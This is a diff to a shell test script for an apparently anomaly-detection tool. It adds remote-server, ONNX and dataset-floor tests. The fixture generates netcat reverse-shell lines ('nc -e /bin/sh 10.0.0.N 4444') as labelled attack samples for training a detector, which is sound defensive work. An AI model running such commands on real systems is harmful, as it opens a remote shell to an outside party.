@@ -3,7 +3,7 @@
 # Models from data files, end to end: made-up data always; floors on public sets where they lie.
 # usage: model_data.sh REEVE SOURCE_ROOT
 set -u
-reeve=$(realpath "$1")
+reeve=$(realpath "$1") source=$(realpath -m "$2")
 shared=${REEVE_SHARED:-$(realpath "$2")/../shared}
 [ -d "$shared/data" ] || shared=/shared
 data=$shared/data
@@ -94,7 +94,7 @@ ok "a row is explained by its sensors and their direction"
 { seq 1 60 | sed 's/.*/ls -l file&/'; seq 1 60 | sed 's/.*/grep -n word file&/'; } >lines.txt
 seq 1 12 | sed 's/.*/nc -e \/bin\/sh 10.0.0.& 4444/' >bad_lines.txt
 "$reeve" model train --task text --normal lines.txt --attack bad_lines.txt -o t.rv >out 2>&1 &&
-    "$reeve" model explain t.rv --input bad_lines.txt --id 2 --top 3 >out 2>&1 &&
+    "$reeve" model explain t.rv --input bad_lines.txt --id 2 --top 9 >out 2>&1 &&
     grep -qE '[+].* (bin|sh|nc|-e) ' out
 ok "a command line is explained by its words"
 printf 'id\tcalls\nx\t1 b\n' >bad.tsv
@@ -105,6 +105,55 @@ head -c 1000 a.rv >half.rv
 "$reeve" model score --model half.rv --input other.tsv >out 2>&1
 [ $? -eq 2 ]
 ok "half a model is refused"
+
+# ---- Models elsewhere: a server that answers, one that is slow, none at all ----
+cat >forest.json <<'JSON'
+{"version":[1,7,4],"learner":{"attributes":{},"feature_names":[],"feature_types":[],"gradient_booster":{"name":"gbtree","model":{"gbtree_model_param":{"num_trees":"1","num_parallel_tree":"1","size_leaf_vector":"0"},"tree_info":[0],"trees":[{"id":0,"base_weights":[0.0,-1.0,1.0],"categories":[],"categories_nodes":[],"categories_segments":[],"categories_sizes":[],"default_left":[1,0,0],"left_children":[1,-1,-1],"loss_changes":[1.0,0.0,0.0],"parents":[2147483647,0,0],"right_children":[2,-1,-1],"split_conditions":[5.0,-1.0,1.0],"split_indices":[0,0,0],"split_type":[0,0,0],"sum_hessian":[2.0,1.0,1.0],"tree_param":{"num_deleted":"0","num_feature":"2","num_nodes":"3","size_leaf_vector":"0"}}]}},"learner_model_param":{"base_score":"5E-1","num_class":"0","num_feature":"2","num_target":"1"},"objective":{"name":"binary:logistic","reg_loss_param":{"scale_pos_weight":"1"}}}}
+JSON
+printf '1 0\n9 0\n7 3\n' >three.txt
+cat >server.py <<'PY'
+import http.server, json, sys, time
+class Handler(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def do_POST(self):
+        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+        row = body["inputs"][0]["data"]
+        if row[1] == 3:
+            time.sleep(1)
+        answer = json.dumps({"model_name": "m", "outputs": [{"name": "y", "datatype": "FP64",
+            "shape": [1, 1], "data": [row[0] * 10.0]}]}).encode()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(answer)))
+        self.end_headers()
+        self.wfile.write(answer)
+    def log_message(self, *args): pass
+server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+print(server.server_port, flush=True)
+server.serve_forever()
+PY
+"$reeve" model import forest.json -o forest.rv >out 2>&1 &&
+    "$reeve" model run --remote 127.0.0.1:1 --name m --model forest.rv --input three.txt >out 2>&1 &&
+    [ "$(grep -c 'local	' out)" -eq 3 ] && grep -q '^0 of 3 rows' out
+ok "without a server our own forest answers"
+if command -v python3 >/dev/null; then
+    python3 server.py >port & server=$!
+    while [ ! -s port ]; do sleep 0.1; done
+    "$reeve" model run --remote "127.0.0.1:$(cat port)" --name m --model forest.rv --input three.txt \
+        --deadline 500 >out 2>&1 && grep -q '^1	remote	10.0' out && grep -q '^2	remote	90.0' out &&
+        grep -q '^3	local	1.0' out && grep -q '^2 of 3 rows' out
+    ok "a server's scores, and ours for the row that it is too slow for"
+    kill $server
+else
+    skip "a server" "no python3"
+fi
+
+graph=$source/fuzz/corpus/onnx/margin-sum.onnx
+awk 'BEGIN { for (r = 1; r < 6; r++) { for (i = 0; i < 12; i++) printf "%d ", (r * 7 + i * 3) % 11; print "" } }' >twelve.txt
+"$reeve" model run --onnx "$graph" --input twelve.txt >out 2>&1
+case $? in
+0) [ "$(grep -c '^[1-5]	onnx	-*[0-9.]*$' out)" -eq 5 ] && ok "a graph runs in ONNX Runtime" ;;
+*) grep -q 'not installed' out && skip "a graph in ONNX Runtime" "not installed" ;;
+esac || { false; ok "a graph runs in ONNX Runtime"; }
 
 # ---- ADFA-LD: fit on all of normal_train and the first 1,500 of the other normal traces; test on
 # the rest, and on the last two of six attack runs. Floors stand a little below what this one split
@@ -143,7 +192,8 @@ if [ -r "$data/batadal/dataset04_full_labels.csv.gz" ]; then
         --attack d04_fit.csv -o water.rv >out 2>&1 &&
         "$reeve" model eval --model water.rv --attack d04_test.csv >out 2>&1 &&
         floor "attacks found" 30000 && ceiling "false alarms" 20000 &&
-        floor "earliness of detection" 9200 && floor "F1 of rows" 9000
+        floor "earliness of detection" 9200 && floor "F1 of rows" 9000 && floor "score S" 9300 &&
+        floor "F1 of events" 7400
     ok "BATADAL: three of three later attacks found early, F1 0.9, at most two false alarms"
 else
     skip "BATADAL" "no $data/batadal"
